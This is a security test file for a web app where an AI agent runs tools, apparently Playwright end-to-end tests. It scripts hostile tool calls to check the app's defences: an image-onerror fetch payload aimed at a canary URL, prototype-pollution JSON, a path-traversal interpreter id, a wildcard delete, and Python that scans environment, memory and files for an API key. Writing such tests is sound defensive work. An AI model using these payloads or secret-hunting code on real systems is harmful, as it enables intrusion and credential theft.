import { ask, findConversation, lastAnswer, listToolCalls, waitForAgent } from '../app/actions.ts';
import { connectScripted, python } from './agent-actions.ts';
import { attackApp } from './attack.ts';
import { expect } from './attack-test.ts';
import { aimAt, drain, expectNextRun } from './shown.ts';

const GROUP = 'Agent';

attackApp(GROUP, 'unknown tools, names with markup, bad JSON, keys of the language', 'agent', async (scene) => {
  const { page, model, canary } = scene;
  await connectScripted(scene);
  const html = aimAt(canary.url, 'argument', '<img src="§" onerror="fetch(`§`)">');
  const calls = [
    { name: 'browse_web', arguments: { url: canary.url } },
    { name: 'Approval_Allow', arguments: { html } },
    { name: 'constructor', arguments: { html } },
    { name: '__proto__', arguments: {} },
    { name: 'toString', arguments: '{}' },
    { name: 'run_python_code', arguments: '{"code": "print(' },
    { name: 'run_python_code', arguments: '[1]' },
    { name: 'run_python_code', arguments: 'null' },
    { name: 'run_python_code', arguments: { code: { toString: 'x' } } },
    { name: 'run_python_code', arguments: { code: '1', interpreter_id: '../neighbour', __proto__: { a: 1 } } },
    {
      name: 'run_python_code',
      arguments: '{"code": "1", "__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}',
    },
    { name: 'manage_interpreters', arguments: { operation: 'delete', interpreter_id: '*' } },
  ];
  for (const call of calls) {
    model.script({ toolCalls: [call] }, { text: 'I see.' });
    await ask(page, `Try ${call.name.slice(0, 20)}.`);
    await expect(lastAnswer(page)).toContainText('I see.');
    await waitForAgent(page);
  }
  expect(await page.evaluate(() => 'polluted' in {})).toBe(false);
  await expect(findConversation(page).locator('img, script, iframe')).toHaveCount(0);
  await drain(scene);
  await expectNextRun(page);
});

attackApp(
  GROUP,
  'the same call again and again, and two by turns; parallel calls on one interpreter',
  'agent',
  async (scene) => {
    const { page, model } = scene;
    await connectScripted(scene);
    for (const pair of [
      ['print("a")', 'print("a")'],
      ['print("a")', 'print("b")'],
    ]) {
      const answers = Array.from({ length: 30 }, (_, at) => python(pair[at % 2] ?? ''));
      model.script(...answers);
      await ask(page, 'Go round in circles.');
      await waitForAgent(page);
      expect(model.requests.length).toBeGreaterThan(3);
      expect(model.requests.length).toBeLessThan(12);
    }
    const many = Array.from(
      { length: 20 },
      (_, at) => `count = globals().get("count", 0) + 1\nprint("call ${at} is number", count)`,
    );
    model.script(python(...many), { text: 'All of them.' });
    await ask(page, 'At once.');
    await expect(lastAnswer(page)).toContainText('All of them.');
    await waitForAgent(page);
    for (const at of [0, 19]) await expect(findConversation(page)).toContainText(`call ${at} is number ${at + 1}`);
    await drain(scene);
    await expectNextRun(page);
  },
);

attackApp(GROUP, 'the key in prompts, environment, exports, links, logs, errors and stores', 'agent', async (scene) => {
  const { page, model, context } = scene;
  const logs: string[] = [];
  page.on('console', (message) => void logs.push(message.text()));
  page.on('pageerror', (error) => void logs.push(String(error.stack)));
  await connectScripted(scene);
  const look = `import os, sys, gc
found = [str(dict(os.environ)), repr(sys.argv), str(vars(sys.modules["__main__"])), str([o for o in gc.get_objects() if isinstance(o, str) and "sk-" in o])]
for folder, _, names in os.walk("/workspace"):
    for name in names: found.append(open(os.path.join(folder, name), "rb").read().decode("latin-1"))
print("key:", "-".join(["sk", "test", "e2e"]) in "".join(found))`;
  model.script(python(look), { status: 400, message: `Your key ${model.apiKey} is wrong, says the server.` });
  await ask(page, 'Look for the key.');
  await expect(listToolCalls(page)).toContainText('key: False');
  await waitForAgent(page);
  for (const request of model.requests) expect(request.text).not.toContain(model.apiKey);
  expect(await page.content()).not.toContain(model.apiKey);
  expect(page.url()).not.toContain(model.apiKey);
  expect(logs.join('\n')).not.toContain(model.apiKey);
  const stored = await context.storageState({ indexedDB: true });
  expect(JSON.stringify(stored)).not.toContain(model.apiKey);
  await drain(scene);
  await expectNextRun(page);
});
